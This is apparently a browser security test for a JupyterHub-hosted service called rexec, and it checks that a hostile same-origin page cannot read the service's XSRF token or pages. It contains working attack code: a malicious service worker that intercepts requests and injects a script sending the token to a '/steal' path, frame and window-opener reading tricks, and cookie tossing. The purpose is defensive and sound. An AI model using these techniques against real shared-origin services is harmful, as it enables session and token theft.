import { createServer } from 'node:http'
import t, { type Test } from 'tap'
import { hubMissing, startHub } from '../hub/hub.ts'
import { freePorts } from '../support/free-port.ts'
import { startApp } from '../support/test-app.ts'
import { chromiumMissing, logIn, startChromium } from './chromium.ts'

const skip = (await chromiumMissing()) ?? (await hubMissing()) ?? false

/**
 * What a user's own server can send to those who come to it. It is behind the proxy of the hub, so for a browser it is
 * of the same origin as rexec. `helps` are its answer's headers.
 */
async function startHostile(t: Test, port: number) {
  const hostile = { helps: {} as Record<string, string>, stolen: [] as string[] }
  const server = createServer(({ url }, response) => {
    if (url!.includes('/steal?')) hostile.stolen.push(url!)
    if (url!.includes('/worker.js?')) {
      response.setHeader('service-worker-allowed', '/')
      response.setHeader('content-type', 'text/javascript')
      response.end(WORKER)
    } else {
      for (const [name, value] of url!.includes('?plain') ? [] : Object.entries(hostile.helps))
        response.setHeader(name, value)
      response.setHeader('content-type', 'text/html')
      response.end('<!doctype html><title>hostile</title><body>')
    }
  }).listen(port, '127.0.0.1')
  await new Promise((resolve) => server.once('listening', resolve))
  t.teardown(() => {
    server.closeAllConnections()
    server.close()
  })
  return hostile
}

/**
 * Stands between the browser and our page, in one of three ways: reads the page itself, reads what the page sends, or puts
 * a script in the place of the page's.
 */
const WORKER = `
const way = new URL(location).searchParams.get('way')
const seen = []
addEventListener('install', () => skipWaiting())
addEventListener('activate', (event) => event.waitUntil(Promise.all([
  clients.claim(),
  way === 'page' ? registration.navigationPreload.enable() : registration.navigationPreload.disable(),
])))
addEventListener('message', (event) => event.ports[0].postMessage(seen))
addEventListener('fetch', (event) => {
  const { request } = event
  seen.push(request.url, ...[...request.headers].map(String))
  if (way === 'page' && request.mode === 'navigate') event.respondWith(readPage(event))
  if (way === 'script' && request.destination === 'script') event.respondWith(new Response(
    "fetch('/services/bob/steal?' + (document.querySelector('meta[name=xsrf]')?.content ?? 'nothing'))",
    { headers: { 'content-type': 'text/javascript' } },
  ))
})
async function readPage({ request, preloadResponse }) {
  seen.push(await (await preloadResponse).text())
  const own = await fetch(request)
  seen.push(await own.clone().text())
  seen.push(await (await fetch(request.url, { headers: { accept: 'text/html' } })).text())
  return own
}`

/** Each is an attempt to come by what our page knows; gives whatever could be read. */
const ATTEMPTS = {
  'fetch()': `(await (await fetch('/services/rexec/')).text())`,
  'fetch() that asks for HTML': `(await (await fetch('/services/rexec/', { headers: { accept: 'text/html' } })).text())`,
  'XMLHttpRequest for a document': `await new Promise((resolve) => {
    const asked = new XMLHttpRequest()
    asked.responseType = 'document'
    asked.onload = () => resolve(asked.response?.documentElement.outerHTML)
    asked.open('GET', '/services/rexec/')
    asked.send()
  })`,
  'an iframe': frame('iframe', 'src'),
  'an object': frame('object', 'data'),
  'an embed': frame('embed', 'src'),
  'the cookies, at the address of our page': `(() => {
    history.pushState(null, '', '/services/rexec/')
    const found = document.cookie
    history.back()
    return found
  })()`,
  'a window that it opens': opened(`open('/services/rexec/')`),
  'a window that it opens empty': opened(`(() => {
    const w = open('about:blank', 'mine')
    w.location = '/services/rexec/'
    return w
  })()`),
  'a window with the API as a page, where people type tokens': opened(`open('/services/rexec/docs')`),
  'a window called by its name again': opened(`(open('/services/rexec/', 'again'), open('', 'again'))`),
}

function frame(tag: string, attribute: string): string {
  return `await new Promise((resolve) => {
    const frame = document.createElement('${tag}')
    const read = () => {
      try { resolve(String(frame.contentDocument?.documentElement.outerHTML)) } catch (error) { resolve(String(error)) }
    }
    frame.onload = frame.onerror = read
    frame.${attribute} = '/services/rexec/'
    document.body.append(frame)
    setTimeout(read, 1500)
  })`
}

/** Looks into the window again and again, while and after it loads. */
function opened(expression: string): string {
  return `await (async () => {
    const seen = []
    const w = ${expression}
    for (let looks = 0; looks < 30; looks++) {
      try { if (w.location.pathname.startsWith('/services/rexec')) seen.push(w.document.documentElement.outerHTML) } catch {}
      await new Promise((resolve) => setTimeout(resolve, 50))
    }
    return seen.join()
  })()`
}

/** Looks into the window that has opened this one, wherever that goes. */
const WATCH_OPENER = `(() => {
  window.seen = []
  setInterval(() => {
    try { if (opener.location.pathname.startsWith('/services/rexec')) seen.push(opener.document.documentElement.outerHTML) } catch {}
  }, 10)
})()`

t.test('a hostile page of the same origin, with the cookies of who reads it', { skip }, async (t) => {
  const [port, hostilePort] = (await freePorts(2, '127.0.0.1')) as [number, number]
  const hub = await startHub(t, {
    serviceUrl: `http://127.0.0.1:${port}`,
    config: `c.JupyterHub.services.append({"name": "bob", "url": "http://127.0.0.1:${hostilePort}"})`,
  })
  const app = await startApp(t, {
    port,
    settings: {
      identity: {
        authenticators: ['jupyterhub'],
        jupyterhub: { apiUrl: hub.apiUrl, apiToken: hub.serviceToken },
      },
    },
  })
  const hostile = await startHostile(t, hostilePort)
  const browser = await startChromium(t)
  const context = await browser.newContext()
  context.setDefaultTimeout(240_000)
  const page = await context.newPage()
  await page.goto(`${hub.url}services/rexec/`)
  await logIn(page, 'alice')
  await page.locator('#user', { hasText: 'alice' }).waitFor()
  const evil = await context.newPage()
  const go = () => evil.goto(`${hub.url}services/bob/`)
  const run = (expression: string) => evil.evaluate<string>(`(async () => ${expression})()`)

  await go()
  t.match(
    await run(`(await (await fetch('/services/rexec/api/v1/user')).text())`),
    'xsrf_invalid',
    'the cookie is sent',
  )

  for (const helps of [
    {},
    { 'cross-origin-opener-policy': 'same-origin' },
    { 'cross-origin-opener-policy': 'noopener-allow-popups' },
  ] as Record<string, string>[]) {
    hostile.helps = helps
    await t.test(`what it can read, with ${JSON.stringify(helps)}`, async (t) => {
      for (const [what, attempt] of Object.entries(ATTEMPTS)) {
        await go()
        const read = String(await run(attempt))
        t.notMatch(read, /name="xsrf"|Your servers|swagger-ui/, what)
        for (const other of context.pages()) if (other !== page && other !== evil) await other.close()
      }
    })
    await t.test(
      `windows that it has opened, when its own goes to us, with ${JSON.stringify(helps)}`,
      async (t) => {
        for (const address of ['/services/bob/', '/services/bob/?plain', 'about:blank']) {
          await go()
          const opening = context.waitForEvent('page')
          await run(`void open('${address}')`)
          const opened = await opening
          await opened.waitForLoadState()
          await opened.evaluate(WATCH_OPENER)
          await evil.goto(`${hub.url}services/bob/`)
          await run(`void (location.href = '/services/rexec/')`)
          await evil.locator('#user', { hasText: 'alice' }).waitFor()
          t.notMatch(await opened.evaluate('seen.join()'), /name="xsrf"|Your servers/, address)
          await opened.close()
        }
      },
    )
  }

  await t.test('a cookie of its own for a part of our address', async (t) => {
    await go()
    await run(`document.cookie = 'rexec-session=of-bob; path=/services/rexec/api'`)
    await page.reload()
    await page.locator('#problem', { hasText: 'two cookies called rexec-session' }).waitFor()
    t.equal(await page.locator('#user').textContent(), '')
    await run(`document.cookie = 'rexec-session=; path=/services/rexec/api; max-age=0'`)
  })

  await t.test('a service worker for the whole host', async (t) => {
    for (const [way, shown] of [
      ['page', 'opens in a window of its own only'],
      ['requests', 'Another page of this site has put a program (a service worker) between'],
      ['script', 'Loading'],
    ]) {
      await go()
      await run(
        `await navigator.serviceWorker.register('/services/bob/worker.js?way=${way}', { scope: '/' })`,
      )
      await run(`await new Promise((resolve) => {
        const look = () => navigator.serviceWorker.controller?.scriptURL.endsWith('${way}') && resolve()
        navigator.serviceWorker.addEventListener('controllerchange', look)
        look()
      })`)
      const victim = await context.newPage()
      await victim.goto(`${hub.url}services/rexec/`)
      await victim.getByText(shown!).first().waitFor()
      const seen = await run(`await new Promise((resolve) => {
        const { port1, port2 } = new MessageChannel()
        port1.onmessage = ({ data }) => resolve(data.join('\\n'))
        navigator.serviceWorker.controller.postMessage(null, [port2])
      })`)
      t.match(seen, `${hub.url}services/rexec/`, 'it stood in between')
      t.notMatch(seen, /name="xsrf"|x-xsrf-token/, `${way}`)
      await victim.close()
    }
    t.same(hostile.stolen, [])
  })
  t.same(
    app.cluster.calls.filter((call) => call.startsWith('start')),
    [],
  )
})
